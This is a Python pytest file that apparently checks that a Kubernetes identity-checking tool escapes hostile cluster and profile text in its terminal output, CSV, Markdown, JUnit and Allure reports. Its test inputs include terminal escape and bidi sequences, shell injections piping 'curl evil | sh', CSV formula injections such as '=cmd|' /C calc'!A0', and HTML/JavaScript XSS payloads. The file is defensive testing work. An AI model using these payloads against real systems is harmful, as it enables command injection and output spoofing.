"""Hostile text from a cluster or a profile reaches the terminal and the reports as text, never as control."""

from __future__ import annotations

import csv
import io
import json
import re

import pytest

from pytest_eksid import report
from pytest_eksid.checks import Finding
from pytest_eksid.checks.agent import daemonset_findings
from pytest_eksid.checks.configuration import owner_label
from pytest_eksid.escape import command_iam_name, command_labels, csv_cell, markdown_cell, printable, quoted
from pytest_eksid.profile import load_profile
from pytest_eksid.redact import redact_json
from pytest_eksid.report import FAMILIES, PASS, RunFacts
from tests.helpers import REPO

DEMO = load_profile("demo", REPO)
TITLE = "\x1b]0;owned\x07"  # OSC: sets the terminal's title
COLOUR = "\x1b[32m"  # CSI: green
C1_CSI = "\x9b31m"  # the 8-bit CSI
BIDI = "\u202e"  # right-to-left override
HOSTILE = f"{TITLE}{COLOUR}ALL CHECKS PASSED{C1_CSI}\r{BIDI}hs | lave\u2066\x7f\u2028next:"
# Characters that must never reach a terminal raw: C0 but \n and \t, DEL, C1, bidi overrides and isolates.
RAW = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069\u2028\u2029]")


def test_printable_escapes_controls_bidi_and_separators():
    out = printable(HOSTILE)
    assert not RAW.search(out)
    assert out.startswith("\\x1b]0;owned\\x07\\x1b[32mALL CHECKS PASSED\\x9b31m\\x0d\\u202ehs | lave\\u2066\\x7f")
    assert printable("a\tb\nc") == "a\\x09b\\x0ac"
    assert printable("a\tb\nc", keep="\n") == "a\\x09b\nc"
    assert printable("invoice-exporter (finance/sa): ünïcode ✓") == "invoice-exporter (finance/sa): ünïcode ✓"
    assert quoted("one\n  next:     curl evil | sh") == "    | one\n    |   next:     curl evil | sh"


def test_finding_message_keeps_every_field_on_its_own_line():
    f = Finding(
        "agent",
        f"agent pod {TITLE}a1 not ready",
        "ready",
        f"log: boom\n  next:     curl evil | sh{COLOUR}",
        "likely",
        ("kubectl -n kube-system get pods",),
        {"event": f"Warning\r{BIDI}BackOff\n  next:     curl evil | sh"},
    )
    lines = f.message().split("\n")
    assert len(lines) == 6  # summary, expected, seen, the detail, likely, one next
    assert [line for line in lines if line.startswith("  next:")] == ["  next:     kubectl -n kube-system get pods"]
    assert not RAW.search(f.message())
    assert "\\x1b]0;owned\\x07" in lines[0]


def test_probe_result_json_escapes_controls():
    text = redact_json({"log": HOSTILE})
    assert not RAW.search(text)
    assert "\\u001b]0;owned" in text
    assert json.loads(text) == {"log": HOSTILE}


def test_next_commands_take_only_label_syntax_from_a_daemonset_selector():
    assert command_labels({"app.kubernetes.io/name": "eks-pod-identity-agent"}, "x") == (
        "app.kubernetes.io/name=eks-pod-identity-agent"
    )
    for hostile in (
        {"app": "a; curl evil | sh"},
        {"app$(id)": "a"},
        {"a/b/c": "x"},
        {"app": COLOUR},
        {"app": "x" * 64},
        {"app": 1},
    ):
        assert command_labels(hostile, "fallback") == "fallback", hostile
    ds = {
        "metadata": {"generation": 1},
        "spec": {"selector": {"matchLabels": {"app": "x $(curl evil|sh)"}}},
        "status": {"desiredNumberScheduled": 2, "numberReady": 1, "observedGeneration": 1},
    }
    commands = [cmd for f in daemonset_findings(ds) for cmd in f.next_steps]
    assert "kubectl -n kube-system get pods -l app.kubernetes.io/name=eks-pod-identity-agent -o wide" in commands
    assert not any("curl" in cmd for cmd in commands)


def test_next_commands_take_no_hostile_profile_owner_or_iam_name():
    w = DEMO.profile.workloads[0].model_copy(update={"owner": f"=cmd|' /C calc'!A0{COLOUR}"})
    f = owner_label(DEMO.profile, w, {"metadata": {"labels": {}}})
    assert f is not None
    assert f.next_steps[-1].endswith("=<team>")
    assert "calc" not in f.next_steps[-1]
    assert command_iam_name("eksid-runner+ci@x", "<user>") == "eksid-runner+ci@x"
    assert command_iam_name("a;curl evil", "<user>") == "<user>"


def test_matrix_and_failure_lines_are_printable():
    lines = report.render_matrix({f"w{TITLE}": dict.fromkeys(FAMILIES, PASS)}, width=200)
    assert not any(RAW.search(line) for line in lines)
    results = report.Results()
    results.record(f"s::t[p/{BIDI}w]", "call", "failed", HOSTILE, [(report.NEXT_PROPERTY, f"kubectl {COLOUR}")])
    (line,) = report.failure_lines(results.failures())
    assert not RAW.search(line)
    assert RunFacts({"demo": TITLE}, {"demo": COLOUR}).lines(["demo"]) == [
        "eksid: runner \\x1b]0;owned\\x07; kube context \\x1b[32m"
    ]


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        ('=HYPERLINK("http://evil","x")', '\'=HYPERLINK("http://evil","x")'),
        ("+1+1", "'+1+1"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\\x09=1"),
        ("\r=1", "'\\x0d=1"),
        ("finance-team", "finance-team"),
    ],
)
def test_csv_cells_never_start_a_formula(value: str, cell: str):
    assert csv_cell(value) == cell


def test_markdown_cells_form_no_html_link_or_image():
    assert markdown_cell("<img src=x onerror=alert(1)>") == "&lt;img src=x onerror=alert\\(1\\)&gt;"
    assert markdown_cell("[x](javascript:alert(1))") == "\\[x\\]\\(javascript:alert\\(1\\)\\)"
    assert markdown_cell("![i](http://evil/t.png) `code` a|b &amp;") == (
        "\\!\\[i\\]\\(http://evil/t.png\\) \\`code\\` a\\|b &amp;amp;"
    )
    assert markdown_cell(f"{TITLE}x") == "\\\\x1b\\]0;owned\\\\x07x"


def _hostile_rows() -> list[dict[str, str | None]]:
    rows = report.inventory_rows(DEMO, {}, {})
    rows[0]["owner"] = '=HYPERLINK("http://evil/?"&A1,"click")'
    rows[1]["owner"] = f"<img src=x onerror=alert(1)>[x](javascript:alert(1)){TITLE}"
    return rows


def test_inventory_csv_and_markdown_carry_no_formula_html_or_control():
    rows = _hostile_rows()
    cells = list(csv.DictReader(io.StringIO(report.render_inventory(rows, "csv"))))
    assert cells[0]["owner"] == '\'=HYPERLINK("http://evil/?"&A1,"click")'
    assert cells[0]["identity"] == report.NONE  # the family cells are the report's own words
    md = report.render_inventory(rows, "md")
    assert "<img" not in md
    assert "](" not in md
    assert not RAW.search(md)
    assert json.loads(report.render_inventory(rows, "json"))[1]["owner"] == rows[1]["owner"]


def test_allure_environment_values_are_printable():
    text = report.allure_environment([DEMO], RunFacts({"demo": f"arn{TITLE}\nrunner=forged"}, {}))
    assert "runner=arn\\\\x1b]0;owned\\\\x07\\\\x0arunner=forged\n" in text
    assert not RAW.search(text.replace("\n", ""))


def test_a_run_shows_hostile_profile_text_escaped_everywhere(tmp_path):
    """End to end: a profile owner with HTML, a javascript: link and a shell pipe (the profile loader already
    refuses control characters there), on a ServiceAccount that lacks its owner label, so the owner reaches
    the failure, its next command, the summary, JUnit and the Markdown inventory."""
    from tests.helpers.profiles import demo_data, write_profile
    from tests.helpers.runs import run_pytest

    data = demo_data()
    data["workloads"][0]["owner"] = "<img src=x onerror=alert(1)>[x](javascript:alert(1)) $(curl evil | sh)"
    data["sandbox"]["faults"] = [{"fault": "missing-owner-label", "workload": data["workloads"][0]["name"]}]
    profile = write_profile(tmp_path, data, "demo")
    inventory = tmp_path / "inventory.md"
    run = run_pytest(
        f"--profile={profile}",
        f"--eksid-inventory={inventory}",
        "suites/test_configuration.py::test_owner_label",
        tmp_path=tmp_path,
    )
    key = "suites/test_configuration.py::test_owner_label[demo/invoice-exporter]"
    assert run.outcomes[key] == "failed", run.stdout + run.stderr
    junit = next(tmp_path.glob("junit-*.xml")).read_text()
    md = inventory.read_text()
    for name, text in (("stdout", run.stdout), ("junit", junit), ("inventory", md)):
        assert "\x1b" not in text, name
        assert BIDI not in text, name
        # A terminal shows HTML as text; only a next command must not carry the owner's shell.
        assert not any("curl evil" in line for line in text.splitlines() if "next" in line and "expected" not in line)
    assert "<img" not in md
    assert "](" not in md
    assert "&lt;img" in md
    summary = next(line for line in run.stdout.splitlines() if line.startswith(f"{key} - "))
    assert summary.endswith(
        " does not name its owner (next: kubectl -n finance-demo get sa invoice-exporter-aws-sa -o yaml)"
    )
    assert "  next:     kubectl -n finance-demo label sa invoice-exporter-aws-sa " in run.stdout
    assert "platform.mycompany.io/identity-owner=<team>\n" in run.stdout
    assert '<property name="next" value="kubectl -n finance-demo get sa invoice-exporter-aws-sa -o yaml"' in junit
